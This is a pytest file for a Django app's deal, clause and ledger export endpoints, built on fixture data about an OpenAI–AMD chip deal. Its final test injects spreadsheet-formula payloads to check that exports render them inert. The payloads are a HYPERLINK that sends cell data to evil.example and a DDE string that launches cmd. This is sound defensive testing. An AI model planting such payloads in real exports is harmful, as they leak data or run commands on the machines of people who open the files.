import csv
import io
import json
from decimal import Decimal

import pytest

from partnerships.exports import CLAUSE_FIELDS, DEAL_FIELDS, LEDGER_FIELDS, SCHEMA_VERSION
from partnerships.models import Clause, DealParty
from partnerships.services.ledger import ledger_rebuild
from tests.factories import AnnouncementFactory, ClauseFactory, CompanyFactory, DealFactory, DealPartyFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def deals():
    oa = CompanyFactory(slug="openai", name="OpenAI")
    amd = CompanyFactory(slug="amd", name="AMD")
    src = AnnouncementFactory(url="https://amd.example/oa")
    a = DealFactory(slug="oa-amd", kind="chips", value_min=None, value_max=10**11)
    DealPartyFactory(deal=a, company=oa, role=DealParty.Role.CUSTOMER)
    DealPartyFactory(deal=a, company=amd, role=DealParty.Role.PROVIDER)
    a.sources.add(src)
    six = ClauseFactory(
        deal=a,
        kind=Clause.Kind.COMPUTE_COMMITMENT,
        amount=6,
        unit="GW",
        quote="Six gigawatts, said the source.",
        source=src,
        grantor=amd,
        beneficiary=oa,
        certainty="confirmed",
        basis="incremental",
    )
    ClauseFactory(
        deal=a, kind=Clause.Kind.CHIPS_SUPPLY, amount=1, unit="GW", grantor=amd, beneficiary=oa, part_of=six
    )
    ClauseFactory(
        deal=a, kind=Clause.Kind.COMPUTE_COMMITMENT, amount=500, unit="MW", grantor=amd, beneficiary=oa
    )
    ClauseFactory(
        deal=a,
        kind=Clause.Kind.WARRANT,
        amount=160000000,
        unit="shares",
        qualifier="up_to",
        grantor=amd,
        beneficiary=oa,
    )
    b = DealFactory(slug="other", kind="research")
    DealPartyFactory(deal=b, company=amd)
    ClauseFactory(deal=b, kind=Clause.Kind.RESEARCH_COLLABORATION, status=Clause.Status.EXTRACTED)
    DealFactory(slug="hidden", status="candidate")
    ledger_rebuild()
    return a, b


def _body(response) -> str:
    return b"".join(response.streaming_content).decode()


def test_it_exports_deals_as_csv_with_the_documented_header(client, deals):
    response = client.get("/exports/deals.csv")
    assert response["Content-Type"].startswith("text/csv")
    assert response["X-Pactwatch-Schema-Version"] == SCHEMA_VERSION
    rows = list(csv.DictReader(io.StringIO(_body(response))))
    assert list(rows[0]) == [name for name, _, _ in DEAL_FIELDS]
    assert {row["slug"] for row in rows} == {"oa-amd", "other"}
    amd_row = next(row for row in rows if row["slug"] == "oa-amd")
    assert (
        amd_row["value_max"] == "100000000000"
        and amd_row["value_min"] == ""
        and amd_row["value_qualifier"] == "up_to"
    )
    assert amd_row["parties"] == "openai:customer;amd:provider"
    assert amd_row["sources"] == "https://amd.example/oa"


def test_it_honours_the_timeline_filters(client, deals):
    rows = list(csv.DictReader(io.StringIO(_body(client.get("/exports/deals.csv?company=openai")))))
    assert [row["slug"] for row in rows] == ["oa-amd"]
    data = json.loads(_body(client.get("/exports/clauses.json?kind=research")))
    assert [c["kind"] for c in data["clauses"]] == ["research_collaboration"]
    assert data["filters"] == {"kind": "research"}


def test_it_exports_json_with_version_citation_and_rows(client, deals):
    data = json.loads(_body(client.get("/exports/deals.json")))
    assert data["schema_version"] == SCHEMA_VERSION
    assert "Pactwatch" in data["how_to_cite"] and data["documentation"].endswith("/exports/")
    deal = next(d for d in data["deals"] if d["slug"] == "oa-amd")
    assert set(deal) == {name for name, _, _ in DEAL_FIELDS}
    assert deal["parties"][0] == {"company": "openai", "name": "OpenAI", "role": "customer"}


def test_it_exports_clauses_with_direction_certainty_and_evidence(client, deals):
    data = json.loads(_body(client.get("/exports/clauses.json?company=openai")))
    assert len(data["clauses"]) == 4
    clause = next(c for c in data["clauses"] if c["unit"] == "GW" and c["kind"] == "compute_commitment")
    assert set(clause) == {name for name, _, _ in CLAUSE_FIELDS}
    assert (clause["amount"], clause["unit"], clause["quote"]) == (
        "6",
        "GW",
        "Six gigawatts, said the source.",
    )
    assert (clause["grantor"], clause["beneficiary"], clause["basis"], clause["certainty"]) == (
        "amd", "openai", "incremental", "confirmed",
    )  # fmt: skip
    tranche = next(c for c in data["clauses"] if c["kind"] == "chips_supply")
    assert tranche["part_of"] == clause["id"] and tranche["certainty"] == "reported"
    assert clause["source_url"] == "https://amd.example/oa"
    assert clause["archived_url"] == ""  # the page was never fetched: no archived copy to point at
    rows = list(csv.DictReader(io.StringIO(_body(client.get("/exports/clauses.csv")))))
    assert list(rows[0]) == [name for name, _, _ in CLAUSE_FIELDS] and len(rows) == 5
    assert {row["review"] for row in rows} == {"reviewed", "extracted"}
    assert "confirmed" not in {row["review"] for row in rows}


def test_it_points_at_the_archived_copy_only_when_one_exists(client, deals):
    from scrapers.models import Announcement

    Announcement.objects.filter(url="https://amd.example/oa").update(
        fetch_status="fetched", content_hash="abc"
    )
    data = json.loads(_body(client.get("/exports/clauses.json?company=openai")))
    clause = next(c for c in data["clauses"] if c["quote"])
    assert "/announcements/" in clause["archived_url"]


def test_it_exports_the_ledger_with_megawatts_in_gigawatts_and_certainties_apart(client, deals):
    response = client.get("/exports/ledger.csv")
    assert response["X-Pactwatch-Schema-Version"] == SCHEMA_VERSION
    rows = list(csv.DictReader(io.StringIO(_body(response))))
    assert list(rows[0]) == [name for name, _, _ in LEDGER_FIELDS]
    supply = next(r for r in rows if r["flow"] == "supply")
    # 6 GW confirmed; the 1 GW tranche adds nothing; 500 MW (reported) is 0.5 GW in the GW row.
    assert (supply["unit"], supply["confirmed"], supply["reported"], supply["unconfirmed"]) == (
        "GW",
        "6",
        "0.5",
        "0",
    )
    assert (supply["grantor"], supply["beneficiary"], supply["deals"]) == ("amd", "openai", "oa-amd")
    assert not [r for r in rows if r["unit"] == "MW"]
    data = json.loads(_body(client.get("/exports/ledger.json?kind=research")))
    assert data["ledger"] == [] and data["filters"] == {"kind": "research"}
    warrant = next(
        r for r in json.loads(_body(client.get("/exports/ledger.json")))["ledger"] if r["unit"] == "shares"
    )
    # AMD grants the warrant: the position is OpenAI's, written investor → investee; shares add nothing.
    assert (warrant["grantor"], warrant["beneficiary"], warrant["flow"]) == ("openai", "amd", "investment")
    assert Decimal(warrant["confirmed"]) + Decimal(warrant["reported"]) == 0


def test_it_never_exports_unpublished_deals(client, deals):
    assert "hidden" not in _body(client.get("/exports/deals.csv"))


def test_it_documents_the_schema(client):
    html = client.get("/exports/").content.decode()
    assert SCHEMA_VERSION in html and "How to cite" in html
    for name, _, _ in DEAL_FIELDS + CLAUSE_FIELDS + LEDGER_FIELDS:
        assert f"<code>{name}</code>" in html


def test_it_answers_404_for_unknown_formats(client):
    assert client.get("/exports/deals.xml").status_code == 404


def test_it_exports_formula_looking_text_as_inert_text_and_numbers_as_numbers(client, deals):
    a, _b = deals
    a.title = '=HYPERLINK(CONCAT("https://evil.example/?",A1),"Open")'
    a.save()
    ClauseFactory(
        deal=a, kind=Clause.Kind.OTHER, subject="+cmd|' /C calc'!A0", summary="-2+3", quote="@SUM(A1)"
    )
    ClauseFactory(deal=a, kind=Clause.Kind.OTHER, subject="\tTabbed", summary="\rReturned", quote="plain")
    deals_rows = list(csv.DictReader(io.StringIO(_body(client.get("/exports/deals.csv")))))
    row = next(r for r in deals_rows if r["slug"] == "oa-amd")
    assert row["title"] == "'" + a.title
    assert row["value_max"] == "100000000000"  # a number, not text
    clause_rows = list(csv.DictReader(io.StringIO(_body(client.get("/exports/clauses.csv")))))
    cells = [value for r in clause_rows for value in r.values()]
    assert "'+cmd|' /C calc'!A0" in cells and "'-2+3" in cells and "'@SUM(A1)" in cells
    assert "'\tTabbed" in cells and "'\rReturned" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert {r["amount"] for r in clause_rows} >= {"6", "160000000"}
